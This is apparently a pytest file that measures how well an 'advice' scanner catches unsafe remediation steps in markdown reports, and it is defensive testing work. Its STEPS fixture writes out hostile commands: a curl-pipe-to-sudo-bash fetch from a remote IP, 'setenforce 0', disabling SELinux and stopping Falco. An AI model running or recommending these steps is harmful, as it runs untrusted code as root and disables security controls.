"""Floors over labelled text. The figures that count are those on text that nobody has tuned on; see docs/lint.md."""

from __future__ import annotations

import json
import re
from collections import defaultdict
from pathlib import Path

import pytest
import yaml

from explainer.advice import scan
from explainer.advice.rules import SEVERITIES

DATA = Path(__file__).parents[1] / "data" / "advice"
CASES = sorted((Path(__file__).parents[2] / "evals" / "cases").glob("*/*.yaml"))
STEPS = (
    "Run `sudo setenforce 0` on the node.",
    "Temporarily disable SELinux on the node.",
    "Install the cleaner: `curl -s http://192.0.2.7/x.sh | sudo bash`.",
    "Stop the Falco DaemonSet until the noise is gone.",
)


def rows(name: str) -> list[dict]:
    return [json.loads(line) for line in (DATA / name).read_text("utf-8").splitlines()]


@pytest.fixture(scope="module")
def judged():
    return [(row, scan(row["text"], kind="markdown")) for row in rows("snippets.jsonl")]


def test_unsafe_snippets_are_found_in_every_class(judged):
    found: dict[str, list[bool]] = defaultdict(list)
    for row, issues in judged:
        if row["label"] == "unsafe":
            found[row["classes"][0]].append(bool(issues))
    every = [hit for hits in found.values() for hit in hits]
    assert len(found) == 19
    assert sum(every) / len(every) >= 0.87
    assert {name for name, hits in found.items() if sum(hits) / len(hits) < 0.7} == set()


def test_hard_safe_snippets_raise_few_false_alarms(judged):
    alarms = [bool(issues) for row, issues in judged if row["label"] == "safe"]
    assert sum(alarms) / len(alarms) <= 0.06


def test_class_and_severity_are_those_of_the_label(judged):
    hits = [(row, issues) for row, issues in judged if row["label"] == "unsafe" and issues]
    right = [bool({issue.cls for issue in issues} & set(row["classes"])) for row, issues in hits]
    severe = [
        max(SEVERITIES.index(issue.severity) for issue in issues) >= SEVERITIES.index(row["min_severity"])
        for row, issues in hits
    ]
    assert sum(right) / len(right) >= 0.93
    assert sum(severe) / len(severe) >= 0.9


def test_sentences_that_name_an_act_without_telling_it_are_left_alone():
    told: dict[str, list[bool]] = defaultdict(list)
    for row in rows("sentences.jsonl"):
        told[row["kind"]].append(bool(scan(row["text"], kind="markdown")))
    rate = {kind: sum(values) / len(values) for kind, values in told.items()}
    assert rate["U"] >= 0.75
    assert rate["N"] <= 0.05
    assert rate["D"] <= 0.06
    assert rate["O"] <= 0.02


@pytest.mark.parametrize("step", STEPS)
@pytest.mark.parametrize(
    "place",
    ["{report}\n\n{step}\n", "{report}\n9. {step}\n", "{report}\n\n## Remediation\n\n- {step}\n", "{first}"],
    ids=["paragraph", "last step", "section", "first step"],
)
def test_an_unsafe_step_in_a_good_report_is_found_whatever_stands_around_it(step, place):
    missed = []
    for path in CASES:
        report = yaml.safe_load(path.read_text("utf-8"))["reference"].rstrip()
        first = re.search(r"\n1\. ", report)
        head = f"{report[: first.start()]}\n1. {step}{report[first.start() :]}" if first else f"{report}\n{step}"
        text = place.format(report=report, step=step, first=head)
        if len(scan(text, kind="markdown")) <= len(scan(report, kind="markdown")):
            missed.append(path.stem)
    # A report that is a list of times may take the step for one more event.
    assert len(missed) <= 2, missed
